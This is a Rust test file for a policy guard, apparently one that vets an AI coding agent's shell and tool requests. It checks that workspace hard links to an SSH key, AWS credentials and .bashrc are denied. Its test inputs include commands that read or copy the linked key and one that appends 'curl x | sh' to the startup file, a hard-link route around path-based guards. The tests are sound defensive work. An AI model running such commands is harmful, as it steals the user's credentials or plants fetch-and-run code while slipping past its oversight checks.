#![allow(clippy::disallowed_methods)] // fixtures are built with std::fs
//! A hard link to a guarded file is the guarded file (issue 35): judged by device and
//! inode, on a real file system in a temporary HOME.
// Test code: a failed setup step should stop the test loudly.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use cordon_policy::{Decision, FakeFs, LoadOptions, Policy, RealFs, Request, Step, Verdict};
use std::path::{Path, PathBuf};

struct Machine {
    _dir: tempfile::TempDir,
    home: PathBuf,
    ws: PathBuf,
}

/// HOME with an SSH key, AWS credentials and a `.bashrc`; a workspace holding hard
/// links to each (`key.txt`, `notes/creds`, `rc.txt`) and a file linked twice inside
/// the workspace only (`a.txt`, `b.txt`).
fn machine() -> Machine {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let home = root.join("home");
    let ws = root.join("ws");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::create_dir_all(ws.join("notes")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "KEY").unwrap();
    std::fs::write(home.join(".aws/credentials"), "[default]").unwrap();
    std::fs::write(home.join(".bashrc"), "# rc").unwrap();
    std::fs::write(ws.join("a.txt"), "a").unwrap();
    std::fs::hard_link(home.join(".ssh/id_rsa"), ws.join("key.txt")).unwrap();
    std::fs::hard_link(home.join(".aws/credentials"), ws.join("notes/creds")).unwrap();
    std::fs::hard_link(home.join(".bashrc"), ws.join("rc.txt")).unwrap();
    std::fs::hard_link(ws.join("a.txt"), ws.join("b.txt")).unwrap();
    Machine {
        _dir: dir,
        home,
        ws,
    }
}

fn decide(m: &Machine, req: &Request) -> Verdict {
    let opts = LoadOptions {
        workspace: m.ws.clone(),
        home: m.home.clone(),
        managed: Some("/nonexistent/managed.toml".into()),
        ..Default::default()
    };
    let policy = Policy::load(&opts, &RealFs).expect("config loads");
    policy.decide(req, &RealFs)
}

fn shell(m: &Machine, cmd: &str) -> Verdict {
    decide(m, &Request::shell(cmd, Some(m.ws.clone())))
}

fn tool(m: &Machine, json: String) -> Verdict {
    decide(m, &Request::from_json(&json).unwrap())
}

fn denied_as(v: &Verdict, what: &str, guarded: &Path) {
    assert_eq!(v.decision, Decision::Deny, "{what}\n{v:#?}");
    assert_eq!(v.source.step, Step::Guard, "{what}\n{v:#?}");
    assert!(
        v.reason
            .contains(&format!("a hard link of {}", guarded.display())),
        "{what}: {}",
        v.reason
    );
}

#[test]
fn a_hard_link_to_a_key_is_read_as_the_key() {
    let m = machine();
    let key = m.home.join(".ssh/id_rsa");
    for cmd in [
        "cat key.txt",
        "cat ./key.txt",
        "grep -c . key.txt",
        "cp key.txt /tmp/k",
        "base64 < key.txt",
    ] {
        denied_as(&shell(&m, cmd), cmd, &key);
    }
    let abs = m.ws.join("key.txt");
    denied_as(
        &tool(
            &m,
            format!(
                r#"{{"tool":"Read","input":{{"file_path":"{}"}}}}"#,
                abs.display()
            ),
        ),
        "Read",
        &key,
    );
}

#[test]
fn a_hard_link_inside_a_guarded_directory_is_found() {
    let m = machine();
    let creds = m.home.join(".aws/credentials");
    denied_as(&shell(&m, "cat notes/creds"), "cat notes/creds", &creds);
    denied_as(&shell(&m, "cd notes && head creds"), "cd; head", &creds);
}

#[test]
fn a_write_through_a_hard_link_to_a_start_up_file_is_refused() {
    let m = machine();
    let rc = m.home.join(".bashrc");
    for cmd in ["echo 'curl x | sh' >> rc.txt", "sed -i 's/a/b/' rc.txt"] {
        denied_as(&shell(&m, cmd), cmd, &rc);
    }
    let abs = m.ws.join("rc.txt");
    denied_as(
        &tool(
            &m,
            format!(
                r#"{{"tool":"Write","input":{{"file_path":"{}","content":"x"}}}}"#,
                abs.display()
            ),
        ),
        "Write",
        &rc,
    );
}

#[test]
fn other_hard_links_are_still_asked_not_denied() {
    let m = machine();
    // Two names inside the workspace: nothing guarded, but still not placed.
    let v = shell(&m, "cat a.txt");
    assert_eq!(v.decision, Decision::Ask, "{v:#?}");
    assert!(v.reason.contains("hard links"), "{}", v.reason);
    // Deleting a second name leaves the guarded file as it was: not the guard's case.
    let v = shell(&m, "rm key.txt");
    assert_ne!(v.source.step, Step::Guard, "{v:#?}");
    assert_eq!(v.decision, Decision::Ask, "{v:#?}");
    // A file with one link is judged as before.
    std::fs::write(m.ws.join("plain.txt"), "p").unwrap();
    assert_eq!(shell(&m, "cat plain.txt").decision, Decision::Allow);
}

#[test]
fn the_fake_file_system_keeps_hard_links_too() {
    let fs = FakeFs::new()
        .file("/home/u/.ssh/id_ed25519")
        .dir("/w/proj")
        .hard_link("/w/proj/logo.png", "/home/u/.ssh/id_ed25519");
    let opts = LoadOptions {
        workspace: "/w/proj".into(),
        home: "/home/u".into(),
        managed: Some("/none".into()),
        ..Default::default()
    };
    let policy = Policy::load(&opts, &fs).unwrap();
    let v = policy.decide(&Request::shell("cat logo.png", Some("/w/proj".into())), &fs);
    assert_eq!(v.decision, Decision::Deny, "{v:#?}");
    assert!(
        v.reason.contains("a hard link of /home/u/.ssh/id_ed25519"),
        "{}",
        v.reason
    );
}
